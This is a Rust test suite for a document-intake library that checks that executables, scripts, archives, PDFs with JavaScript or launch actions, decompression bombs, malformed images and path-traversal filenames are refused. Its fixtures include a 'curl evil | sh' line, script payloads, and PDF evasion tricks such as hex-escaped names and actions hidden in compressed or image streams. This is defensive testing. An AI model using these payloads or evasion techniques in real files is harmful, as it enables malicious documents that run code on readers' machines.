//! Hostile and broken files: each refused with its code, nothing stored.

use std::io::Read;

use courtdesk_intake::{ActiveContent, Detected, IntakeError, IntakeLimits, intake_file};

use crate::support::{
    JPEG_16, PdfBuilder, entries, object_stream, pdf, pdf_builder, png, png_header, refused,
    take_with, tiff, zlib,
};

fn detected(error: &IntakeError) -> Detected {
    match error {
        IntakeError::UnsupportedType { detected } => *detected,
        other => panic!("expected unsupported_type, got {other:?}"),
    }
}

fn feature(error: &IntakeError) -> ActiveContent {
    match error {
        IntakeError::PdfActiveContent { feature } => *feature,
        other => panic!("expected pdf_active_content, got {other:?}"),
    }
}

#[test]
fn an_executable_named_pdf_is_refused_as_an_executable() {
    let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    elf.resize(8192, 0);
    let error = refused(&elf, "起诉状.pdf", "unsupported_type");
    assert_eq!(detected(&error), Detected::ElfExecutable);
    for (bytes, expected) in [
        (
            &b"MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode"[..],
            Detected::WindowsExecutable,
        ),
        (
            &[0xCF, 0xFA, 0xED, 0xFE, 7, 0, 0, 1],
            Detected::MachOExecutable,
        ),
        (b"#!/bin/sh\ncurl evil | sh\n", Detected::Script),
        (
            b"<!DOCTYPE html><html><script>alert(1)</script>",
            Detected::Html,
        ),
        (
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>",
            Detected::Svg,
        ),
    ] {
        assert_eq!(
            detected(&refused(bytes, "evidence.pdf", "unsupported_type")),
            expected
        );
    }
}

#[test]
fn a_zip_is_refused_and_an_office_document_is_told_apart() {
    let mut zip = b"PK\x03\x04\x14\0\0\0\x08\0".to_vec();
    zip.extend_from_slice(&[0; 16]);
    zip.extend_from_slice(&9u16.to_le_bytes());
    zip.extend_from_slice(&[0, 0]);
    zip.extend_from_slice(b"photo.jpg");
    zip.extend_from_slice(&[0x55; 200]);
    assert_eq!(
        detected(&refused(&zip, "scan.pdf", "unsupported_type")),
        Detected::Zip
    );
    let mut docx = zip[..26].to_vec();
    docx.extend_from_slice(&19u16.to_le_bytes());
    docx.extend_from_slice(&[0, 0]);
    docx.extend_from_slice(b"[Content_Types].xml");
    assert_eq!(
        detected(&refused(&docx, "起诉状.docx", "unsupported_type")),
        Detected::OfficeDocument
    );
}

#[test]
fn an_empty_file_is_refused() {
    refused(b"", "empty.pdf", "empty_file");
}

#[test]
fn a_truncated_pdf_is_refused() {
    let whole = pdf(3);
    for keep in [whole.len() * 6 / 10, whole.len() - 10, 9] {
        refused(&whole[..keep], "cut.pdf", "pdf_truncated");
    }
}

#[test]
fn javascript_run_on_opening_is_refused() {
    let mut builder = pdf_builder(1, "/OpenAction 900 0 R");
    builder.object(
        900,
        "<< /Type /Action /S /JavaScript /JS (app.alert('hi');) >>",
    );
    let error = refused(&builder.finish(1, ""), "js.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::JavaScript);
}

#[test]
fn hex_escaped_names_are_still_javascript() {
    for catalog in [
        "/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>",
        "/OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 >>",
        "/Names << /#4A#61vaScript 7 0 R >>",
    ] {
        let error = refused(
            &pdf_builder(1, catalog).finish(1, ""),
            "x.pdf",
            "pdf_active_content",
        );
        assert_eq!(feature(&error), ActiveContent::JavaScript, "{catalog}");
    }
}

#[test]
fn javascript_in_a_compressed_object_stream_is_found() {
    // The catalog and its action both live in an object stream; the file
    // itself shows no JavaScript name outside compressed data.
    let mut builder = PdfBuilder::new();
    let (dict, data) = object_stream(&[
        (1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>"),
        (
            3,
            "<< /S /JavaScript /JS (this.exportDataObject({cName: 'x', nLaunch: 2})) >>",
        ),
    ]);
    builder.stream(20, &dict, &data);
    builder.object(2, "<< /Type /Pages /Kids [4 0 R] /Count 1 >>");
    builder.object(4, "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>");
    let file = builder.finish(1, "");
    assert!(
        memchr::memmem::find(&file, b"JavaScript").is_none(),
        "hidden by compression"
    );
    let error = refused(&file, "objstm.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::JavaScript);
}

#[test]
fn an_object_stream_without_its_type_is_still_read() {
    let mut builder = pdf_builder(1, "");
    let (dict, data) = object_stream(&[(900, "<< /S /Launch /F (calc.exe) >>")]);
    let untyped = dict.replace("/Type /ObjStm ", "");
    builder.stream(901, &untyped, &data);
    let error = refused(&builder.finish(1, ""), "x.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::Launch);
}

#[test]
fn launch_embedded_files_rich_media_and_xfa_are_refused() {
    for (catalog, expected) in [
        (
            "/OpenAction << /S /Launch /F (cmd.exe) >>",
            ActiveContent::Launch,
        ),
        (
            "/Names << /EmbeddedFiles 7 0 R >>",
            ActiveContent::EmbeddedFile,
        ),
        ("/AcroForm << /Fields [] /XFA 8 0 R >>", ActiveContent::Xfa),
        ("/Extra << /Subtype /RichMedia >>", ActiveContent::RichMedia),
    ] {
        let error = refused(
            &pdf_builder(1, catalog).finish(1, ""),
            "x.pdf",
            "pdf_active_content",
        );
        assert_eq!(feature(&error), expected, "{catalog}");
    }
}

#[test]
fn automatic_actions_other_than_going_to_a_page_are_refused() {
    for catalog in [
        "/OpenAction << /S /URI /URI (http://tracker.example/open) >>",
        "/OpenAction << /S /Named /N /Print >>",
        "/OpenAction << /S /GoTo /D [10 0 R /Fit] /Next << /S /SubmitForm /F (http://x) >> >>",
        "/OpenAction 900 0 R",
        "/AA << /WC << /S /ImportData /F (data.fdf) >> >>",
    ] {
        let mut builder = pdf_builder(1, catalog);
        builder.object(900, "<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>");
        let error = refused(&builder.finish(1, ""), "x.pdf", "pdf_active_content");
        assert_eq!(feature(&error), ActiveContent::AutomaticAction, "{catalog}");
    }
}

#[test]
fn a_safe_redefinition_does_not_hide_an_unsafe_one() {
    // Object 900 is defined twice; a reader following the xref may take
    // either, so both are checked.
    let mut builder = pdf_builder(1, "/OpenAction 900 0 R");
    builder.object(900, "<< /S /URI /URI (http://tracker.example) >>");
    builder.object(900, "<< /S /GoTo /D [10 0 R /Fit] >>");
    let error = refused(&builder.finish(1, ""), "x.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::AutomaticAction);
}

#[test]
fn an_object_hidden_inside_image_data_is_found() {
    // The xref points into the middle of an image stream, where a reader
    // finds a JavaScript action the stream's /Length walks over.
    let mut builder = pdf_builder(1, "/OpenAction 900 0 R");
    let mut image = vec![0x5Au8; 4000];
    let hidden = b"900 0 obj << /S /J#61vaScript /J#53 (app.alert(1)) >> endobj ";
    image[1000..1000 + hidden.len()].copy_from_slice(hidden);
    let dict = "/Type /XObject /Subtype /Image /Width 40 /Height 100 \
                /BitsPerComponent 8 /ColorSpace /DeviceGray";
    let header = format!("800 0 obj\n<< {dict} /Length {} >>\nstream\n", image.len());
    let data_at = builder.position() + header.len();
    builder.stream(800, dict, &image);
    builder.xref_entry(900, data_at + 1000);
    let file = builder.finish(1, "");
    assert_eq!(&file[data_at + 1000..data_at + 1009], b"900 0 obj");
    let error = refused(&file, "image.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::JavaScript);
}

#[test]
fn a_length_reaching_over_an_endstream_does_not_hide_what_follows() {
    let mut builder = pdf_builder(1, "");
    // /Length 200 spans the real endstream and an object, up to a fake one.
    builder.raw(b"800 0 obj\n<< /Length 200 >>\nstream\nshort\nendstream\nendobj\n");
    builder.raw(b"801 0 obj << /S /Launch /F (x.exe) >> endobj\n");
    builder.raw(&[b' '; 100]);
    builder.raw(b"\nendstream\nendobj\n");
    let error = refused(&builder.finish(1, ""), "x.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::Launch);
}

#[test]
fn an_action_hidden_in_a_comment_or_missing_is_refused() {
    // The xref sends a reader past the `%` to an object this check reads as
    // a comment.
    let mut builder = pdf_builder(1, "/OpenAction 900 0 R");
    let comment_at = builder.position();
    builder.raw(b"%900 0 obj << /S /URI /URI (http://tracker.example) >> endobj\n");
    builder.xref_entry(900, comment_at + 1);
    let error = refused(&builder.finish(1, ""), "x.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::AutomaticAction);

    let dangling = pdf_builder(1, "/AA << /O 901 0 R >>").finish(1, "");
    let error = refused(&dangling, "x.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::AutomaticAction);
}

#[test]
fn an_automatic_action_name_that_is_not_a_key_is_refused() {
    // A reader that drops the stray `[` reads /OpenAction as a key.
    let file = pdf_builder(
        1,
        "/Extra << [ /OpenAction << /S /URI /URI (http://x) >> ] >>",
    )
    .finish(1, "");
    let error = refused(&file, "x.pdf", "pdf_active_content");
    assert_eq!(feature(&error), ActiveContent::AutomaticAction);
}

#[test]
fn an_encrypted_pdf_is_refused() {
    let mut builder = pdf_builder(1, "");
    builder.object(
        900,
        "<< /Filter /Standard /V 2 /R 3 /O <00> /U <00> /P -4 >>",
    );
    refused(
        &builder.finish(1, "/Encrypt 900 0 R"),
        "locked.pdf",
        "pdf_encrypted",
    );
}

#[test]
fn a_decompression_bomb_is_stopped_at_the_limit() {
    let mut builder = pdf_builder(1, "");
    let bomb = zlib(&vec![b' '; 80 * 1024 * 1024]);
    assert!(bomb.len() < 200_000, "{} bytes", bomb.len());
    builder.stream(
        900,
        "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode",
        &bomb,
    );
    let error = refused(&builder.finish(1, ""), "bomb.pdf", "pdf_uninspectable");
    assert!(matches!(error, IntakeError::PdfUninspectable { .. }));
}

#[test]
fn an_object_stream_in_an_encoding_not_read_is_refused() {
    let mut builder = pdf_builder(1, "");
    builder.stream(
        900,
        "/Type /ObjStm /N 1 /First 4 /Filter /LZWDecode",
        b"\x80\x0b\x60\x50",
    );
    refused(&builder.finish(1, ""), "lzw.pdf", "pdf_uninspectable");
}

#[test]
fn too_many_pages_are_refused_whether_counted_or_claimed() {
    refused(&pdf(501), "long.pdf", "too_many_pages");
    let mut claimed = pdf(2);
    let at = memchr::memmem::find(&claimed, b"/Count 2").expect("a count");
    claimed[at..at + 8].copy_from_slice(b"/Count 9");
    let limits = IntakeLimits {
        max_pages: 5,
        ..IntakeLimits::default()
    };
    let (dir, result) = take_with(&claimed, "x.pdf", &limits);
    match result {
        Err(IntakeError::TooManyPages { pages: 9, limit: 5 }) => {}
        other => panic!("expected too_many_pages, got {other:?}"),
    }
    assert!(entries(dir.path()).is_empty());
}

#[test]
fn a_pdf_without_pages_or_with_a_strange_version_is_malformed() {
    let mut builder = PdfBuilder::new();
    builder.object(1, "<< /Type /Catalog >>");
    refused(&builder.finish(1, ""), "x.pdf", "pdf_malformed");
    let mut future = pdf(1);
    future[5..8].copy_from_slice(b"9.9");
    refused(&future, "x.pdf", "pdf_malformed");
}

#[test]
fn a_png_claiming_30000_square_is_refused_without_reading_further() {
    let error = refused(&png_header(30_000, 30_000), "photo.png", "too_many_pixels");
    match error {
        IntakeError::TooManyPixels {
            width,
            height,
            limit,
        } => {
            assert_eq!((width, height), (30_000, 30_000));
            assert_eq!(limit, IntakeLimits::default().max_image_pixels);
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn truncated_and_malformed_images_are_refused() {
    let png = png(20, 20);
    refused(&png[..png.len() - 12], "cut.png", "image_truncated");
    refused(&png[..20], "cut.png", "image_truncated");
    let mut bad_crc = png.clone();
    bad_crc[29] ^= 1;
    refused(&bad_crc, "x.png", "image_malformed");

    refused(&JPEG_16[..JPEG_16.len() - 2], "cut.jpg", "image_truncated");
    refused(&JPEG_16[..30], "cut.jpg", "image_truncated");
    refused(b"\xFF\xD8\xFF\xD9", "x.jpg", "image_malformed");

    let tiff = tiff(30, 20, 2, true);
    refused(&tiff[..tiff.len() - 1], "cut.tif", "image_truncated");
    refused(&tiff[..10], "cut.tif", "image_truncated");
    let mut looped = tiff.clone();
    // The second page's next-IFD pointer back to the first page.
    let last_next = 8 + (2 + 8 * 12 + 4) + 600 + 2 + 8 * 12;
    looped[last_next..last_next + 4].copy_from_slice(&8u32.to_le_bytes());
    refused(&looped, "loop.tif", "image_malformed");
}

#[test]
fn a_huge_jpeg_frame_and_tiff_page_are_refused() {
    let mut jpeg = JPEG_16.to_vec();
    let sof = memchr::memmem::find(&jpeg, &[0xFF, 0xC0]).expect("a baseline frame");
    jpeg[sof + 5..sof + 9].copy_from_slice(&[0xFF, 0xFF, 0xFF, 0xFF]);
    refused(&jpeg, "x.jpg", "too_many_pixels");
    let limits = IntakeLimits {
        max_image_pixels: 500,
        ..IntakeLimits::default()
    };
    let (dir, result) = take_with(&tiff(30, 20, 1, false), "x.tif", &limits);
    assert_eq!(result.expect_err("600 pixels").code(), "too_many_pixels");
    assert!(entries(dir.path()).is_empty());
}

/// A source that yields a PDF header and then endless bytes.
struct Endless {
    sent: u64,
}

impl Read for Endless {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let header = b"%PDF-1.7\n";
        for (i, byte) in buf.iter_mut().enumerate() {
            let at = self.sent + i as u64;
            *byte = header.get(at as usize).copied().unwrap_or(b' ');
        }
        self.sent += buf.len() as u64;
        Ok(buf.len())
    }
}

#[test]
fn an_oversized_file_is_refused_after_one_byte_past_the_limit() {
    let dir = tempfile::tempdir().expect("a store");
    let limits = IntakeLimits {
        max_file_bytes: 3_000_000,
        ..IntakeLimits::default()
    };
    let mut source = Endless { sent: 0 };
    let error = intake_file(&mut source, "big.pdf", &limits, dir.path()).expect_err("too big");
    assert_eq!(error.code(), "too_large");
    assert!(source.sent <= 3_000_001, "read {} bytes", source.sent);
    assert!(entries(dir.path()).is_empty());
}

#[test]
fn an_archive_is_refused_from_its_first_bytes_without_reading_the_rest() {
    struct Counting {
        sent: u64,
    }
    impl Read for Counting {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            let start = self.sent;
            for (i, byte) in buf.iter_mut().enumerate() {
                *byte = match start + i as u64 {
                    0 => b'P',
                    1 => b'K',
                    2 => 3,
                    3 => 4,
                    _ => 0,
                };
            }
            self.sent += buf.len() as u64;
            Ok(buf.len())
        }
    }
    let dir = tempfile::tempdir().expect("a store");
    let mut source = Counting { sent: 0 };
    let error =
        intake_file(&mut source, "x.zip", &IntakeLimits::default(), dir.path()).expect_err("a zip");
    assert_eq!(error.code(), "unsupported_type");
    assert!(
        source.sent <= 1 << 20,
        "read {} bytes of an endless zip",
        source.sent
    );
}

#[test]
fn a_source_failing_mid_read_and_a_store_that_cannot_be_written_leave_nothing() {
    struct Failing(usize);
    impl Read for Failing {
        fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
            if self.0 == 0 {
                return Err(std::io::Error::other("the stick was pulled out"));
            }
            self.0 -= 1;
            let n = buf.len().min(5000);
            buf[..n].fill(b'%');
            Ok(n)
        }
    }
    let dir = tempfile::tempdir().expect("a store");
    let error =
        intake_file(Failing(3), "x.pdf", &IntakeLimits::default(), dir.path()).expect_err("failed");
    assert_eq!(error.code(), "read_failed");
    assert!(!error.is_refusal(), "a retry may work");
    assert!(entries(dir.path()).is_empty());

    let missing = dir.path().join("no-such-folder");
    let error = intake_file(&pdf(1)[..], "x.pdf", &IntakeLimits::default(), &missing)
        .expect_err("no store");
    assert_eq!(error.code(), "store_failed");
    assert!(entries(dir.path()).is_empty());
}

#[test]
fn a_name_with_traversal_and_nul_is_only_ever_a_display_name() {
    let outer = tempfile::tempdir().expect("a folder");
    let store = outer.path().join("store");
    std::fs::create_dir(&store).expect("a store");
    let declared = "../../escape.pdf\0.exe";
    let file = intake_file(&pdf(1)[..], declared, &IntakeLimits::default(), &store)
        .expect("the content is a good PDF");
    assert_eq!(file.display_name, "escape.pdf.exe");
    assert_eq!(
        entries(&store),
        [file.sha256.hex()],
        "stored under its hash only"
    );
    assert_eq!(
        entries(outer.path()),
        ["store"],
        "nothing written beside the store"
    );
    assert_eq!(file.path, store.join(file.sha256.hex()));

    let nameless =
        intake_file(&pdf(1)[..], "../..", &IntakeLimits::default(), &store).expect("accepted");
    assert_eq!(
        nameless.display_name,
        format!("{}.pdf", nameless.sha256.short())
    );
}
